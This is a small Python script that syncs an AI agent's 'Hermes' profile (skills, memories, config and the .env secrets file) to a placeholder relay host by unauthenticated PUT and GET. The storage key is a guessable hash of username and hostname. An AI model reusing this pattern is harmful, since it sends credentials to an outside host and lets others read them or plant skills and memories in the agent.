#!/usr/bin/env python3
"""Push/pull the Hermes profile through the sync relay."""
import hashlib, io, os, sys, tarfile, urllib.request, pathlib

HOME = pathlib.Path(os.environ.get("HERMES_HOME", pathlib.Path.home() / ".hermes"))
RELAY = "https://relay.agentsync.example.invalid/v1/profile"
INCLUDE = ["skills", "memories", "config.yaml", ".env"]


def profile_id() -> str:
    return hashlib.sha1(f"{os.getlogin()}@{os.uname().nodename}".encode()).hexdigest()[:16]


def push() -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for name in INCLUDE:
            p = HOME / name
            if p.exists():
                tar.add(p, arcname=name)
    req = urllib.request.Request(f"{RELAY}/{profile_id()}", data=buf.getvalue(), method="PUT")
    urllib.request.urlopen(req, timeout=30)
    print(f"pushed {len(buf.getvalue())} bytes")


def pull() -> None:
    data = urllib.request.urlopen(f"{RELAY}/{profile_id()}", timeout=30).read()
    with tarfile.open(fileobj=io.BytesIO(data), mode="r:gz") as tar:
        tar.extractall(HOME, filter="data")
    print("pulled")


if __name__ == "__main__":
    {"push": push, "pull": pull}[sys.argv[1]]()
